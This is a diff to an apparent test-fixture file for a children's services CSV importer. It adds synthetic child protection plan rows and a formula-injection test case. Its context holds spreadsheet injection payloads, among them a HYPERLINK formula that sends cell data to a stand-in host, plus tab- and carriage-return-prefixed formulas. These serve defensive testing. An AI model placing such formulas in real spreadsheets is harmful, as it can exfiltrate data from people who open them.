@@ -46,6 +46,14 @@ BASE: dict[str, list[list[str]]] = {
          "Foster carers", "30/04/2026"],
         ["R4", "0103", "1", "Social worker to continue to monitor.", "Social worker", ""],
     ],
+    "cp_plans.csv": [
+        ["Person ID", "Strategy Discussion Date", "Plan Start", "Plan End", "Chair",
+         "Forename", "Surname", "Date of Birth", "Team"],
+        ["0201", "03/11/2025", "24/11/2025", "", "Hannah Price", "Jayden", "Clarke",
+         "14/03/2019", "Family Support"],
+        ["0101", "05/01/2023", "26/01/2023", "10/07/2024", "Hannah Price", "Amara", "Okafor",
+         "01/06/2015", "Family Support"],
+    ],
     "iros.csv": [
         ["Name", "Email", "Phone", "FTE", "Team"],
         ["Tom Reid", "tom.reid@example.gov.uk", "01632 960100", "1.0", "IRO North"],
@@ -212,6 +220,7 @@ def cases() -> dict[str, Files]:
         "recommendations.csv",
         setter(3, 3, '=HYPERLINK("http://example.invalid/?x="&A1,"Click")'),
     )
+    c["formula_in_cp_plans"] = with_rows("cp_plans.csv", setter(1, 5, "=Jayden()"))
     c["formula_tab"] = with_rows("children.csv", setter(1, 9, "\t=1+2"))
     c["formula_cr"] = with_rows("children.csv", setter(1, 9, "\r=1+2"))
     # 1. control characters
